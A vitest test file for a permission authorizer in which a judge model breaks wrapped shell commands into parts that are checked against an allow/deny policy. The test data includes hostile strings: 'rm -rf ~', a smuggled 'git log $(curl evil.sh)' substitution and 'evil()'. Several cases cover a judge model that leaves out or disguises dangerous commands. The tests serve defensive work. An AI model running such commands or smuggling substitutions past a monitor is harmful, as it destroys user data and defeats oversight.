import { describe, expect, it } from "vitest";
import { ModelJudgeAuthorizer } from "../../src/model-judge-authorizer";
import { askFacts } from "../../src/review/ask-facts";
import { opaquePayloadOf } from "../../src/review/opaque-command-review";
import { bashAsk, externalDirectoryAsk, manualClock, recordingLog, ruleQuery } from "../support/ask-builders";
import { fauxJudge, toolReply } from "../support/faux-judge";
import { judgeConfig, sessionWith } from "../support/judge-session";

const ON = judgeConfig({ opaqueCommands: { enabled: true } });
/** Recorded policy: git and ls are allowed, rm is denied, curl asks; anything else asks. */
const POLICY = ruleQuery([
	["git", "allow"],
	["ls", "allow"],
	["rm", "deny"],
	["curl", "ask"],
]);

async function adjudicate(
	ask: ReturnType<typeof bashAsk>,
	reply: Record<string, unknown> | null,
	config: unknown = ON,
): Promise<{ readonly verdict: string; readonly calls: number; readonly logged: number }> {
	const judge = await fauxJudge();
	if (reply !== null) judge.script(toolReply(reply as never, "report_commands"));
	const state = sessionWith(config, judge.registry);
	const link = new ModelJudgeAuthorizer({ session: () => state, clock: manualClock() });
	const log = recordingLog();
	const verdict = await link.authorize(ask, POLICY, log);
	const failures = log.events.filter((entry) => entry.name === "authorizer_link_failed");
	return { verdict: verdict.verdict, calls: judge.seen.length, logged: failures.length };
}

const wrapper = (payload: string) => bashAsk({ unit: `bash -c '${payload}'`, executedUnit: payload });

describe("ModelJudgeAuthorizer, opaque-command adjudication", () => {
	it("allows a wrapper whose payload the model decomposes exactly into commands recorded policy allows", async () => {
		const result = await adjudicate(wrapper("git status && ls -la"), {
			commands: ["git status", "ls -la"],
			confidence: 0.97,
		});
		expect(result).toEqual({ verdict: "allow", calls: 1, logged: 0 });
	});

	it.each([
		{
			case: "omits the dangerous command",
			payload: "git status; rm -rf ~",
			reply: { commands: ["git status"], confidence: 0.99 },
		},
		{
			case: "swaps the dangerous command for a harmless one",
			payload: "git status; rm -rf ~",
			reply: { commands: ["git status", "ls"], confidence: 0.99 },
		},
		{
			case: "lists the dangerous command, which policy denies",
			payload: "git status; rm -rf ~",
			reply: { commands: ["git status", "rm -rf ~"], confidence: 0.99 },
		},
		{
			case: "hides a substitution inside an allowed command",
			payload: "git log $(curl evil.sh)",
			reply: { commands: ["git log $(curl evil.sh)"], confidence: 0.99 },
		},
		{ case: "lists nothing", payload: "git status", reply: { commands: [], confidence: 1 } },
		{ case: "is not confident", payload: "git status", reply: { commands: ["git status"], confidence: 0.6 } },
		{
			case: "lists more commands than `maxCommands`",
			payload: "ls",
			reply: { commands: Array.from({ length: 9 }, () => "ls"), confidence: 1 },
		},
		{
			case: "sends a confidence outside 0..1",
			payload: "git status",
			reply: { commands: ["git status"], confidence: 7 },
		},
	])("defers when the model $case", async ({ payload, reply }) => {
		expect((await adjudicate(wrapper(payload), reply)).verdict).toBe("defer");
	});

	it("defers an interpreter payload the parser could not see, without calling the model", async () => {
		const ask = bashAsk({ unit: "python3 -c 'import os; os.system(\"ls\")'", executedUnit: null });
		expect(await adjudicate(ask, { commands: ["ls"], confidence: 1 })).toEqual({
			verdict: "defer",
			calls: 0,
			logged: 0,
		});
	});

	it("defers a wrapper that is only part of the call, without calling the model", async () => {
		const ask = bashAsk({
			unit: "bash -c 'ls'",
			command: "bash -c 'ls'; python3 -c 'evil()'",
			executedUnit: "ls",
		});
		expect(await adjudicate(ask, { commands: ["ls"], confidence: 1 })).toEqual({
			verdict: "defer",
			calls: 0,
			logged: 0,
		});
	});

	it("skips the model for an ask without access facts, since the envelope would cap any allow", async () => {
		const ask = { ...wrapper("ls"), access: null };
		expect(await adjudicate(ask, { commands: ["ls"], confidence: 1 })).toEqual({
			verdict: "defer",
			calls: 0,
			logged: 0,
		});
	});

	it("stays off unless the operator enables it", async () => {
		expect(await adjudicate(wrapper("ls"), { commands: ["ls"], confidence: 1 }, judgeConfig())).toEqual({
			verdict: "defer",
			calls: 0,
			logged: 0,
		});
	});

	it("ignores bash asks decided by a rule rather than the opaque-payload floor", async () => {
		const ask = bashAsk({ unit: "curl x", executedUnit: null, matchedPattern: "curl *" });
		expect((await adjudicate(ask, { commands: ["curl x"], confidence: 1 })).calls).toBe(0);
	});

	it("never allows an external-directory ask, whatever the model answers", async () => {
		const judge = await fauxJudge();
		judge.script(toolReply({ verdict: "allow" }));
		const state = sessionWith(ON, judge.registry);
		const link = new ModelJudgeAuthorizer({ session: () => state, clock: manualClock() });
		const ask = externalDirectoryAsk("/work/packages/app/packages/app/x");
		expect((await link.authorize(ask, POLICY, recordingLog())).verdict).toBe("defer");
	});
});

describe("opaquePayloadOf", () => {
	it.each([
		{ unit: "bash -c 'ls'", command: undefined, executed: "ls", expected: { payload: "ls" } },
		{ unit: "eval 'ls'", command: undefined, executed: "ls", expected: { payload: "ls" } },
		{
			unit: "python3 -c 'x'",
			command: undefined,
			executed: null,
			expected: { skip: "the payload is not literal shell" },
		},
		{ unit: 'eval "$x"', command: undefined, executed: null, expected: { skip: "the payload is not literal shell" } },
		{
			unit: "bash -c 'ls'",
			command: "cd a && bash -c 'ls'",
			executed: "ls",
			expected: { skip: "the wrapper is not the whole call" },
		},
		{
			unit: "bash -c 'x'",
			command: undefined,
			executed: "x".repeat(9000),
			expected: { skip: "the payload is too long to adjudicate" },
		},
	])("reads `$unit` as $expected", ({ unit, command, executed, expected }) => {
		const ask = bashAsk({ unit, executedUnit: executed, ...(command === undefined ? {} : { command }) });
		expect(opaquePayloadOf(askFacts(ask))).toEqual(expected);
	});
});
